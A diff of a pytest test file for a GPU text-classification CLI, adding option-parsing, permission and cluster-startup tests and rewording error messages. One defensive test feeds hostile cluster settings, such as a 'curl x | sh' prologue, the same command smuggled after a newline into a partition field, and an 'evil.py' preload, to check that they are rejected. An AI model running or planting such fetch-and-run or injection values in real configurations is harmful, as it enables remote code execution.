@@ -16,12 +16,14 @@ import click
 import dask
 import pandas as pd
 import pytest
+import torch
 import yaml
 from click.testing import CliRunner
 from distributed import Client, LocalCluster
 from rich.console import Console
 
-from gpuclassify import PromptClassifier
+from gpuclassify import DomainClassifier, PromptClassifier
+from gpuclassify.commands import client
 from gpuclassify.commands.cli import main
 from gpuclassify.commands.client import shown_workers
 from gpuclassify.commands.console import print_summary
@@ -29,6 +31,7 @@ from gpuclassify.commands.options import _WORDS, command_line
 from gpuclassify.commands.settings import JobSettings, dump_settings, load_settings
 from gpuclassify.jobs.report.summary import JobSummary
 from gpuclassify.questions.answers import Choice, Free, Several
+from gpuclassify.workers.nvml import GpuSurvey
 from tests.replicas import (
     safety_template,
     sample_texts,
@@ -132,6 +135,36 @@ def test_options_mean_one_classifier_or_all(settings_of):
     }  # fmt: skip
 
 
+@pytest.mark.parametrize(
+    "spelling",
+    ["DomainClassifier", "domain-classifier", "domain_classifier", "Domain", "domainclassifier"],
+)
+def test_a_class_is_known_in_any_spelling(settings_of, spelling):
+    found = settings_of(
+        "in", "out", "--classifier", spelling, "--classifier", "LanguageIdentifier",
+        "--filter-by", f"{spelling}:Games", "--filter-by", "language-identifier:en",
+    )  # fmt: skip
+    assert found["classifiers"] == [
+        {"classifier": "domain", "filter_by": ["Games"]},
+        {"classifier": "language", "filter_by": ["en"]},
+    ]
+
+
+def test_options_that_one_classifier_has_need_no_name(settings_of):
+    found = settings_of(
+        "in", "out", "--classifier", "heads", "--classifier", "checkpoint", "--heads",
+        "edu=heads/edu", "--backbone", "o/m", "--model", "o/n", "--score-field", "heads:{head}_p",
+        "--set", "heads:score_format=struct",
+    )  # fmt: skip
+    assert found["classifiers"] == [
+        {
+            "classifier": "heads", "heads": {"edu": "heads/edu"}, "backbone": "o/m",
+            "score_field": "{head}_p", "score_format": "struct",
+        },
+        {"classifier": "checkpoint", "model": "o/n"},
+    ]  # fmt: skip
+
+
 def test_digests_of_input_are_an_option_of_dedup_too(run, tmp_path):
     (tmp_path / "a.jsonl").write_text('{"text": "a"}\n')
     run("dedup", tmp_path / "a.jsonl", tmp_path / "out", "--method", "exact", "--input-digest")
@@ -213,7 +246,7 @@ def test_a_file_of_settings_has_no_secrets_and_one_reader(tmp_path):
         "classifiers": [{"classifier": "domain", "text_template": "größe https://x/?q={text}"}],
     }
     path = tmp_path / "job.yaml"
-    with pytest.warns(UserWarning, match="give these URLs whole on the command line"):
+    with pytest.warns(UserWarning, match="pass these URLs in full on the command line"):
         dump_settings(JobSettings.of(values), path)
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
     first, *_ = text = path.read_text().splitlines()
@@ -240,9 +273,9 @@ def test_settings_that_nest_too_deep_are_a_wrong_call(run, tmp_path):
         ("out --classifier domain", "got one path, 'out'"),
         (
             "in.jsonl out",
-            "classifiers must be given: --classifier FAMILY (see `gpuclassify models`)",
+            "needs classifiers: pass --classifier FAMILY (see `gpuclassify models`)",
         ),
-        ("", "input and output and classifiers must be given: INPUT... OUTPUT --classifier"),
+        ("", "needs input and output and classifiers: pass INPUT... OUTPUT --classifier"),
         ("in.jsonl in.jsonl/out --classifier domain", "in.jsonl is a file: name"),
         ("in.jsonl out --classifier domian", "Did you mean 'domain'"),
         ("in.jsonl out --classifier checkpoint", "needs --model: a Hub name"),
@@ -269,6 +302,43 @@ def test_wrong_calls_leave_with_2_and_write_nothing(run, folder, arguments, word
 
 
 @pytest.mark.parametrize(
+    ("settings", "words"),
+    [
+        ({"cluster_options": {"preload": "evil.py"}}, "--cluster-option preload=VALUE"),
+        ({"cluster_options": {"preload_nanny": ["evil.py"]}}, "preload_nanny, which may run code"),
+        ({"cluster_options": {"env": {"PYTHONPATH": "x"}}}, "env, which may run code"),
+        ({"cluster_options": {"worker_class": "a.B"}}, "worker_class, which may run code"),
+        ({"cluster_options": {"host": "0.0.0.0"}}, "host, which may run code or open"),
+        ({"cluster_options": {"security": False}}, "security, which may run code or open"),
+        ({"cluster_options": {"prologue": ["curl x | sh"]}}, "prologue, which may run code"),
+        ({"cluster_options": {"partition": "a\ncurl x | sh"}}, "partition, which may run code"),
+        ({"cluster_options": {"environ": {"A": "b"}}}, "environ, which may run code"),
+        ({"scheduler": "tcp://127.0.0.1:1"}, "names the scheduler tcp://127.0.0.1:1"),
+    ],
+)
+def test_a_settings_file_runs_no_code(run, folder, settings, words):
+    job = {"input": ["in.jsonl"], "output": "out", "classifiers": [{"classifier": "domain"}]}
+    (folder / "job.yaml").write_text(yaml.safe_dump(job | settings))
+    done = run("classify", "--config", "job.yaml")
+    assert (done.exit_code, words in done.stderr) == (2, True), done.output
+    assert not (folder / "out").exists()
+
+
+def test_sizes_of_a_cluster_may_stand_in_a_settings_file(settings_of, folder):
+    options = {"memory_limit": "8GB", "threads_per_worker": 1, "region": "us-east-2"}
+    job = {"input": ["in.jsonl"], "output": "out", "classifiers": [{"classifier": "domain"}]}
+    (folder / "job.yaml").write_text(yaml.safe_dump(job | {"cluster_options": options}))
+    found = settings_of("--config", "job.yaml", "--cluster-option", "preload=mine.py")
+    assert found["cluster_options"] == options | {"preload": "mine.py"}
+
+
+def test_settings_over_a_file_for_all_are_for_its_owner(settings_of, tmp_path):
+    (tmp_path / "job.yaml").touch(0o644)
+    settings_of("in.jsonl", "out", "--classifier", "domain")
+    assert (tmp_path / "job.yaml").stat().st_mode & 0o777 == 0o600
+
+
+@pytest.mark.parametrize(
     ("options", "words"),
     [
         ("--part-size 0", "--part-size '0' is below 1 byte"),
@@ -278,8 +348,8 @@ def test_wrong_calls_leave_with_2_and_write_nothing(run, folder, arguments, word
         ("--dump-config no/where.yaml", "cannot be written to no/where.yaml: No such file or"),
         ("--min-score High=x", "--min-score 'High=x': pass a number, or LABEL=NUMBER"),
         ("--min-confidence much", "--min-confidence 'much': pass a number"),
-        ("--classifier quality --filter-by High", "say which, as in --filter-by domain:High"),
-        ("--model a --model b", "--model is given 2 times"),
+        ("--classifier quality --filter-by High", "name one, as in --filter-by domain:High"),
+        ("--model a --model b", "--model was passed 2 times"),
         ("--model ./nowhere", "nowhere"),
         ("--model domain --text-field txt", "no text column 'txt'"),
         ("--model domain --text-field txt", "Pass --text-field to"),
@@ -288,7 +358,7 @@ def test_wrong_calls_leave_with_2_and_write_nothing(run, folder, arguments, word
         ("--model domain --field idd", "no column 'idd'. Did you mean 'id'?"),
         ("--model domain -n 3 --field idd", "no column 'idd'. Did you mean 'id'?"),
         ("--model domain -n 0", "--limit 0"),
-        ("--model domain -n 5 --type id=double", "--type has no meaning"),
+        ("--model domain -n 5 --type id=double", "--type has no effect"),
         ("--set token=hf_x", "a token is no setting"),
         ("--set truncated_field", "pass NAME=VALUE"),
         ("--set truncated_feild=x", "Did you mean 'truncated_field'"),
@@ -297,7 +367,7 @@ def test_wrong_calls_leave_with_2_and_write_nothing(run, folder, arguments, word
         ("--type price=number", "Arrow has no such type"),
         ("--cluster-option queue", "--cluster-option 'queue': pass NAME=VALUE"),
         ("--model domain --cluster cpu --cluster-option local_directry=x", "'local_directory'"),
-        ("--model domain --workers 1 --cluster-option n_workers=2", "mean the same: give one"),
+        ("--model domain --workers 1 --cluster-option n_workers=2", "mean the same: pass one"),
         ("--model domain --workers 0", "--workers 0 must be at least 1"),
         ("--model domain --scheduler http://10.0.0.1:8786", "unknown address scheme 'http'"),
         ("--model domain --scheduler no.json", "no.json"),
@@ -317,7 +387,7 @@ def test_wrong_options_leave_with_2_and_write_nothing(run, folder, options, word
     [
         ("[1]", "must hold names and values"),
         ("a: b: c", "is no YAML file"),
-        ("input: a\noutput: b\ninput: c", "input is set on line 1 and again on line 3: leave one"),
+        ("input: a\noutput: b\ninput: c", "input is set on line 1 and again on line 3: remove one"),
         (
             "classifiers:\n- classifier: domain\n  model: a\n  'model': b",
             "job.yaml: model is set on line 3 and again on line 4",
@@ -452,7 +522,7 @@ def test_earlier_results_stay_when_no_cluster_is_reached(run, finished):
     with dask.config.set({"distributed.comm.timeouts.connect": "2s"}):
         done = run(*FEW, "--restart", "--scheduler", "tcp://127.0.0.1:1")
     assert (done.exit_code, "no Dask scheduler answers" in done.stderr) == (1, True)
-    assert "leave --scheduler out" in done.stderr
+    assert "leave out --scheduler" in done.stderr
     assert sorted(path.name for path in finished.iterdir()) == before
 
 
@@ -519,7 +589,7 @@ from click.testing import CliRunner
 from gpuclassify.commands.cli import main
 done = CliRunner().invoke(main, {FEW})
 assert done.exit_code == 0, done.output
-assert "1 of 1 parts were there already, with 7 rows" in done.stdout
+assert "1 of 1 parts were done already, with 7 rows" in done.stdout
 assert not {{"torch", "transformers"}} & set(sys.modules)
 print(time.process_time())
 """
@@ -596,7 +666,7 @@ def test_other_commands_tell_of_paths_in_their_words(run, folder):
     for words, told in [
         ("report in.jsonl", "in.jsonl is a file: name a directory"),
         ("report nowhere", "nowhere"),
-        ("plan in.jsonl other.parquet --classifier domain", "leave OUTPUT out"),
+        ("plan in.jsonl other.parquet --classifier domain", "leave out OUTPUT"),
         ("buckets --score a", "name the input, and then the output: INPUT... OUTPUT"),
         ("buckets in.jsonl --score a", "name the input, and then the output: INPUT... OUTPUT"),
     ]:
@@ -609,11 +679,42 @@ def test_help_shows_options_in_groups_and_to_a_plan_none_of_a_cluster(run):
     shown, planned = (run(command, "--help").output for command in ("classify", "plan"))
     groups = ["Classifiers:", "Columns and rows:", "Files:", "Cluster:", "Settings:", "Options:"]
     assert [line for line in shown.splitlines() if line in groups] == groups
-    for parameter in main.commands["classify"].params:
+    for parameter in main.get_command(click.Context(main), "classify").params:
         for option in parameter.opts if isinstance(parameter, click.Option) else ():
             assert re.search(rf"^  (-\w, )?{option}[ ,]", shown, re.MULTILINE), option
     assert "Files:" in planned
     assert "Cluster:" not in planned and "--scheduler" not in planned
+
+
+@pytest.mark.parametrize(
+    ("options", "machine", "starts"),
+    [
+        ((), {}, False),
+        (("--workers", "1"), {}, True),
+        (("--cluster", "cpu"), {}, True),
+        (("--cluster-option", "n_workers=1"), {}, True),
+        (("--part-size", "2kB"), {}, True),
+        ((), {"free_memory": lambda: 10_000}, True),
+        ((), {"survey_gpus": lambda: GpuSurvey(has_gpu=True)}, True),
+    ],
+)
+def test_a_small_part_on_a_cpu_needs_no_cluster(
+    run, tmp_path, monkeypatch, options, machine, starts
+):
+    def no_cluster(*_):
+        raise RuntimeError("a cluster was started")
+
+    for name, function in {"open_client": no_cluster, **machine}.items():
+        monkeypatch.setattr(client, name, function)
+    threads = torch.get_num_threads()
+    done = run("classify", "in.jsonl", tmp_path / "out", *DOMAIN, *options)
+    torch.set_num_threads(threads)
+    assert ("a cluster was started" in done.stderr, done.exit_code) == (starts, int(starts))
+    if not starts:
+        (part,) = (tmp_path / "out").glob("*.parquet")
+        texts = [None if pd.isna(text) else text for text in pd.read_parquet(part)["text"]]
+        expected = DomainClassifier(model="domain")(texts)
+        assert pd.read_parquet(part)["domain_pred"].tolist() == expected["domain_pred"].tolist()
 
 
 def test_help_and_version_need_no_framework():
@@ -657,7 +758,7 @@ def test_a_published_checkpoint_runs_by_its_name(run, folder, scheduler, tmp_pat
     assert found.finemath_int_score.tolist() == found.finemath_score.round().tolist()
     assert re.search(r"This run: 62 rows in \d+\.\d s of working time, ", done.stdout)
     again = run("classify", *words, *scheduler)
-    assert "1 of 1 parts were there already" in again.output
+    assert "1 of 1 parts were done already" in again.output
     assert "This run" not in again.output
     assert re.search(r"\nThe command took \d+\.\d s, start-up included\n", again.stdout)
     planned = run("plan", "in.jsonl", "--classifier", "finemath", "--model", model)
